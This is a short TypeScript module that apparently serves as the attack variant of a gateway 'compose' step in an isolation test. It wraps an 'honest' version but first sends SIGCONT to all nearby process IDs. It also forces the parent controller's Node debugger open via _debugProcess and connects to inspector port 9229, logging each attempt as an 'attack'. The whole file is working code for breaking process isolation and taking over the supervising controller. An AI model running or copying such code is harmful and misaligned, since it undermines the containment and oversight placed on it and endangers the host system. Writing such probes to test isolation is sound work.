import {connect} from 'node:net';
import type {Compose} from 'teralab/gateway/seams/compose';
import {compose as honest} from './honest.ts';

/** Wakes whatever has a number near its own, since nodes are started one after the other, and has the controller open its debugger. */
export const compose: Compose = async (request, upstream) => {
  for (let pid = process.pid - 40; pid < process.pid + 40; pid++) attempt(() => process.kill(pid, 'SIGCONT'));
  attempt(() => (process as unknown as {_debugProcess(pid: number): void})._debugProcess(process.ppid));
  connect(9229, '127.0.0.1').on('error', error => console.log(`attack: ${error}`));
  return honest(request, upstream);
};

function attempt(reach: () => void): void {
  try {
    reach();
  } catch (error) {
    console.log(`attack: ${error}`);
  }
}
